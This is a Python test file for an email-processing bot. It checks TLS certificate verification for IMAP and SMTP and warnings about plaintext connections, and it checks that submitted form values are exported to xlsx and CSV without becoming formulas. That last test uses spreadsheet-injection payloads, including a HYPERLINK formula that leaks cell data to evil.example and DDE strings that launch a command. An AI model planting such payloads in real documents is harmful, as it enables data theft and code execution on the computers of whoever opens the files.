def test_mailbox_client_secures_the_connection_it_is_told_to(monkeypatch: pytest.MonkeyPatch, tls: str) -> None:
    monkeypatch.setattr(imapclient, "IMAPClient", _RecordingImap)
    _RecordingImap.made.clear()
    box = SETTINGS.mailbox[0].model_copy(update={"tls": tls, "host": "127.0.0.1"})
    with MailboxClient(box, "secret"):
        pass
    (made,) = _RecordingImap.made
    context = made.ssl_context if tls == "ssl" else made.starttls_context
    if tls == "none":
        assert (made.ssl, made.ssl_context, made.starttls_context) == (False, None, None)
        return
    assert made.ssl == (tls == "ssl")
    assert context is not None and context.verify_mode == ssl.CERT_REQUIRED and context.check_hostname


@pytest.fixture(scope="module")
def self_signed(tmp_path_factory: pytest.TempPathFactory) -> ssl.SSLContext:
    """A server context with a certificate for 127.0.0.1 that no authority signed."""
    x509 = pytest.importorskip("cryptography.x509")
    from cryptography.hazmat.primitives import hashes, serialization
    from cryptography.hazmat.primitives.asymmetric import ec
    from cryptography.x509.oid import NameOID

    key = ec.generate_private_key(ec.SECP256R1())
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "127.0.0.1")])
    now = datetime.now(UTC)
    certificate = (
        x509.CertificateBuilder()
        .subject_name(name)
        .issuer_name(name)
        .public_key(key.public_key())
        .serial_number(x509.random_serial_number())
        .not_valid_before(now)
        .not_valid_after(now.replace(year=now.year + 1))
        .add_extension(x509.SubjectAlternativeName([x509.IPAddress(ipaddress.ip_address("127.0.0.1"))]), False)
        .sign(key, hashes.SHA256())
    )
    folder = tmp_path_factory.mktemp("tls")
    (folder / "cert.pem").write_bytes(certificate.public_bytes(serialization.Encoding.PEM))
    (folder / "key.pem").write_bytes(
        key.private_bytes(serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8, serialization.NoEncryption())
    )
    context = ssl.create_default_context(ssl.Purpose.CLIENT_AUTH)
    context.load_cert_chain(folder / "cert.pem", folder / "key.pem")
    return context


@contextmanager
def tls_greeter(context: ssl.SSLContext, greeting: bytes) -> Iterator[int]:
    """A loopback TLS server that says ``greeting`` to whoever completes the handshake, then hangs up."""
    listener = socket.create_server(("127.0.0.1", 0))
    listener.settimeout(0.1)
    port: int = listener.getsockname()[1]
    stop = threading.Event()

    def serve() -> None:
        while not stop.is_set():
            try:
                connection, _ = listener.accept()
            except TimeoutError:
                continue
            with contextlib.suppress(OSError), context.wrap_socket(connection, server_side=True) as secured:
                secured.sendall(greeting)

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    try:
        yield port
    finally:
        stop.set()
        thread.join(timeout=5)
        listener.close()


def test_mailbox_client_refuses_a_certificate_nobody_signed(self_signed: ssl.SSLContext) -> None:
    with tls_greeter(self_signed, b"* OK ready\r\n") as port:
        box = SETTINGS.mailbox[0].model_copy(update={"host": "127.0.0.1", "port": port, "tls": "ssl"})
        with pytest.raises(MailboxUnavailable, match="CERTIFICATE_VERIFY_FAILED"), MailboxClient(box, "secret", 10):
            pass


@pytest.mark.parametrize("tls", ["ssl", "starttls"])
def test_smtp_refuses_a_certificate_nobody_signed(self_signed: ssl.SSLContext, tls: str) -> None:
    handler = AuthSink("unused")
    port = free_port()
    options: dict[str, Any] = {"ssl_context": self_signed} if tls == "ssl" else {"tls_context": self_signed}
    controller = Controller(handler, hostname="127.0.0.1", port=port, **options)
    controller.start()
    try:
        for verify in (True, False):
            smtp = SETTINGS.smtp.model_copy(
                update={"host": "127.0.0.1", "port": port, "tls": tls, "verify_certificate": verify, "user": None}
            )
            settings = SETTINGS.model_copy(update={"smtp": smtp})
            if verify:
                with pytest.raises(ssl.SSLCertVerificationError):
                    connect_smtp(settings)
            else:  # the same server is reached when the operator turns verification off
                connect_smtp(settings).quit()
    finally:
        controller.stop()


@pytest.mark.parametrize(
    ("host", "tls", "warned"),
    [
        ("mail.example.org", "none", True),
        ("192.0.2.10", "none", True),
        ("127.0.0.1", "none", False),
        ("::1", "none", False),
        ("localhost", "none", False),
        ("mail.example.org", "ssl", False),
        ("mail.example.org", "starttls", False),
    ],
)
def test_plaintext_to_another_machine_is_warned_about(
    caplog: pytest.LogCaptureFixture, host: str, tls: str, warned: bool
) -> None:
    with caplog.at_level(logging.WARNING, logger="mailbot.imap"):
        warn_if_plaintext("mailbox", "smp", host, tls)
    warnings = [record for record in caplog.records if record.levelno == logging.WARNING]
    assert bool(warnings) == warned, warnings
    if warned:
        assert host in warnings[0].getMessage() and "clear text" in warnings[0].getMessage()


# --- spreadsheets: a submitted value never becomes a formula ----------------------------------------

FORMULAS = {
    "project_title": '=HYPERLINK("http://evil.example/?leak="&A1,"open")',
    "department": "+SUM(1,2)",
    "institution": "@SUM(1+1)*cmd|' /C calc'!A0",
    "title": "-2+3+cmd|' /C calc'!A0",
}
_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def formula_form() -> bytes:
    rows = [list(row) for row in SMP_ROWS]
    rows[0][1] = FORMULAS["project_title"]
    rows[2][3] = FORMULAS["title"]
    rows[3][3] = FORMULAS["department"]
    rows[4][1] = FORMULAS["institution"]
    return table_form(rows)


@pytest.fixture
def formula_records(tmp_path: Path, imap_server: ImapServer, smtp_sink: SmtpSink) -> Iterator[Session]:
    raw = message([mime_part(formula_form(), DOCX_TYPE, b'attachment; filename="form.docx"')])
    imap_server.append("min.gao@aminer.cn", raw, ARRIVAL)
    with Worker(make_settings(tmp_path, imap_server, smtp_sink)) as bot:
        assert [item.outcome for item in bot.single_pass().processed] == ["accepted"]
        with bot.store.sessions() as session:
            fields = export_records(session)[0]["fields"]
            assert {name: fields[name] for name in FORMULAS} == FORMULAS, "the values were read as sent"
            yield session


def test_submitted_values_are_no_formulas_in_the_workbook(formula_records: Session) -> None:
    workbook = openpyxl.load_workbook(io.BytesIO(to_xlsx(formula_records)))
    cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
    assert any(isinstance(cell.value, str) and "HYPERLINK" in cell.value for cell in cells)
    for cell in cells:
        assert cell.data_type != "f", (cell.coordinate, cell.value)


def test_submitted_values_are_no_formulas_in_the_csv_export(formula_records: Session) -> None:
    rows = list(csv.reader(io.StringIO(to_csv(export_records(formula_records)))))
    assert any("HYPERLINK" in value for row in rows for value in row)
    for row in rows[1:]:
        assert not any(value.startswith(_FORMULA_START) for value in row), row
